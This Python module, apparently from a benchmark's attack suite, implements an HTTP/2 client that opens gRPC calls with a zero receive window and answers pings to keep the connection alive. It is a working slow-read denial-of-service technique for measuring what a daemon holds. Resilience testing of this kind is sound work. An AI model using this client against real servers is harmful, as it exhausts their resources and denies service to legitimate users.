"""An HTTP/2 client written by hand, that does what grpcio never would: it opens gRPC calls
with a receive window of 0, so no response can reach it, and answers pings so its connection
looks alive. What a caller that stops reading can make a daemon hold."""

from __future__ import annotations

import socket
import threading

from bench.attacks.http2 import PING, PREFACE, SETTINGS, frame, grpc_call, settings

ACK = 0x1


class ZeroWindowClient:
    """One TCP connection to `address` (host, port) whose calls never take a response byte."""

    def __init__(self, address: tuple[str, int]) -> None:
        self.sock = socket.create_connection(address, timeout=5)
        self.sock.sendall(PREFACE + settings(initial_window_size=0))
        self.authority = f"{address[0]}:{address[1]}"
        self.next_stream = 1
        self.closed = threading.Event()  # the server closed the connection
        self._lock = threading.Lock()
        threading.Thread(target=self._answer, daemon=True).start()

    def call(self, path: str, message: bytes) -> None:
        """Opens a unary call of `path` with one gRPC message, and never reads its response."""
        with self._lock:
            stream, self.next_stream = self.next_stream, self.next_stream + 2
            self.sock.sendall(grpc_call(stream, self.authority, path, message, len(message),
                                        end=True))

    def _answer(self) -> None:
        """ACKs the server's settings and pings; everything else is read and dropped."""
        buf = b""
        try:
            while True:
                chunk = self.sock.recv(65536)
                if not chunk:
                    break
                buf += chunk
                while len(buf) >= 9:
                    length = int.from_bytes(buf[:3], "big")
                    if len(buf) < 9 + length:
                        break
                    kind, flags, payload = buf[3], buf[4], buf[9:9 + length]
                    buf = buf[9 + length:]
                    if kind == SETTINGS and not flags & ACK:
                        with self._lock:
                            self.sock.sendall(frame(SETTINGS, ACK, 0, b""))
                    elif kind == PING and not flags & ACK:
                        with self._lock:
                            self.sock.sendall(frame(PING, ACK, 0, payload))
        except OSError:
            pass
        self.closed.set()

    def close(self) -> None:
        self.sock.close()
